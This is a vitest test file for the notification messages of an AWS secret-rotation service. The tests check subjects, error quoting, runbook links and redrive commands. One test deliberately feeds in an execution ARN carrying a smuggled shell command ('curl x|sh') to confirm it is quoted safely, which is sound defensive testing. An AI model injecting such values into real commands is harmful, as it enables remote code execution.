import { describe, expect, it } from 'vitest';
import { deploymentOf } from '../../functions/notify/deployment.ts';
import {
  type Failure,
  failedMessage,
  type Message,
  worksAgainMessage,
} from '../../functions/notify/message.ts';
import { EXECUTION_ARN_PREFIX } from '../helpers/execution-description.ts';
import { CONTROL_CHARACTERS, HOSTILE_TEXT } from '../helpers/hostile-text.ts';
import { ROTATION_FUNCTION_ARN, SECRET_ARN, SECRET_NAME, VERSION } from '../helpers/secret.ts';

const EXECUTION_ARN = `${EXECUTION_ARN_PREFIX}first`;
const DEPLOYMENT = deploymentOf(ROTATION_FUNCTION_ARN, undefined);
const FAILING_SINCE = new Date('2026-07-01T08:00:10.123Z');
const FAILURE: Failure = {
  executionArn: EXECUTION_ARN,
  status: 'FAILED',
  redriveCount: 0,
  isRedrivable: true,
  closedAt: FAILING_SINCE,
  rotation: { purpose: 'rotate', secretArn: SECRET_ARN, versionId: VERSION },
  lostAlternate: false,
  error: 'RefreshTokenRejected',
  message: 'Rejected.\nTwice.',
  state: 'Refresh',
  failingSince: FAILING_SINCE,
  leavesTokenInUse: false,
};

const MESSAGES: readonly [string, (secretArn: string) => Message][] = [
  [
    'a failure',
    secretArn =>
      failedMessage(
        { ...FAILURE, rotation: { purpose: 'rotate', secretArn, versionId: VERSION } },
        DEPLOYMENT,
      ),
  ],
  [
    'a success',
    secretArn =>
      worksAgainMessage({ secretArn, executionArn: EXECUTION_ARN, failingSince: FAILING_SINCE }, DEPLOYMENT),
  ],
];

describe.each(MESSAGES)('the message of %s', (_what, messageOf) => {
  it('names the secret, the deployment and the time of the first failure', () => {
    const { subject, text } = messageOf(SECRET_ARN);

    expect(subject).toContain(SECRET_NAME);
    for (const fact of [
      SECRET_ARN,
      'genesys-token-rotation',
      '111122223333',
      'eu-central-1',
      '2026-07-01 08:00:10 UTC',
    ]) {
      expect(text).toContain(fact);
    }
  });

  it('has a subject that SNS accepts, even with a long secret name', () => {
    const { subject, text } = messageOf(SECRET_ARN.replace(SECRET_NAME, `genesys/${'n'.repeat(504)}`));

    expect(subject).toMatch(/^[A-Za-z][ -~]{0,98}$/);
    expect(text).toContain(`genesys/${'n'.repeat(504)}`);
  });
});

describe('a message with untrusted text', () => {
  const HOSTILE_MESSAGES = [
    failedMessage(
      {
        ...FAILURE,
        message: HOSTILE_TEXT,
        error: HOSTILE_TEXT,
        state: HOSTILE_TEXT,
        executionArn: HOSTILE_TEXT,
      },
      DEPLOYMENT,
    ),
    worksAgainMessage(
      { secretArn: HOSTILE_TEXT, executionArn: HOSTILE_TEXT, failingSince: FAILING_SINCE },
      DEPLOYMENT,
    ),
  ];

  it.each(HOSTILE_MESSAGES)(
    'does not let the text add lines or control characters: $subject',
    ({ subject, text }) => {
      const lines = text.split('\n');

      expect(subject).toMatch(/^[ -~]{1,99}$/);
      expect(lines.filter(line => line.startsWith('WHAT TO DO')).length).toBeLessThanOrEqual(1);
      expect(lines.filter(line => CONTROL_CHARACTERS.test(line))).toEqual([]);
      expect(lines.filter(line => line.includes('run this') && line.startsWith('WHAT TO DO'))).toEqual([]);
    },
  );

  it('quotes an error message as one line of limited length', () => {
    const { text } = failedMessage(
      { ...FAILURE, message: `${HOSTILE_TEXT}${'a'.repeat(9_000)}` },
      DEPLOYMENT,
    );

    expect(text).toMatch(/^> x \]0;title .{100,4000}\.\.\.$/m);
  });

  it('quotes the ARN in the command for a shell', () => {
    const { text } = failedMessage({ ...FAILURE, executionArn: `${EXECUTION_ARN};curl x|sh` }, DEPLOYMENT);

    expect(text).toContain(`--execution-arn '${EXECUTION_ARN};curl x|sh'\n`);
  });
});

describe('the message of a failed execution', () => {
  it('contains the error, the execution and the next step', () => {
    const { subject, text } = failedMessage(FAILURE, DEPLOYMENT);

    expect(subject).toContain('RefreshTokenRejected');
    expect(subject).toContain('Refresh:');
    for (const fact of [
      'RefreshTokenRejected',
      'Rejected. Twice.',
      VERSION,
      EXECUTION_ARN,
      `https://console.aws.amazon.com/states/home?region=eu-central-1#/v2/executions/details/${EXECUTION_ARN}`,
      `aws stepfunctions redrive-execution --region eu-central-1 --execution-arn ${EXECUTION_ARN}`,
      'docs/runbook.md#refreshtokenrejected',
    ]) {
      expect(text).toContain(fact);
    }
  });

  it("links to the entry in the deployment's runbook", () => {
    const { text } = failedMessage(
      FAILURE,
      deploymentOf(ROTATION_FUNCTION_ARN, 'https://wiki.example/rotation'),
    );

    expect(text).toContain('https://wiki.example/rotation#refreshtokenrejected');
  });

  it('distinguishes a configuration test from a rotation', () => {
    const rotation = { purpose: 'check-configuration', secretArn: SECRET_ARN, versionId: VERSION } as const;

    const { subject } = failedMessage({ ...FAILURE, rotation }, DEPLOYMENT);

    expect(subject).toContain('configuration test');
  });

  it('limits the length of a long error', () => {
    const { text } = failedMessage({ ...FAILURE, message: 'x'.repeat(30_000) }, DEPLOYMENT);

    expect(text.length).toBeLessThan(5_000);
    expect(text).toContain('xxx...');
  });

  it('gives no command for an execution that cannot be redriven', () => {
    const { text } = failedMessage({ ...FAILURE, isRedrivable: false }, DEPLOYMENT);

    expect(text).not.toContain('aws stepfunctions');
    expect(text).toContain('console.aws.amazon.com');
  });

  it.each([
    ['ABORTED', 'stopped'],
    ['TIMED_OUT', 'timed out'],
    ['FAILED', 'without a name'],
  ] as const)('describes an execution that is %s without an error', (status, what) => {
    const failure = { ...FAILURE, status, error: undefined, message: undefined };

    const { subject, text } = failedMessage(
      { ...failure, state: undefined, rotation: undefined },
      DEPLOYMENT,
    );

    expect(subject).toContain(what);
    expect(text).toContain(EXECUTION_ARN);
    expect(text).not.toContain('undefined');
  });
});
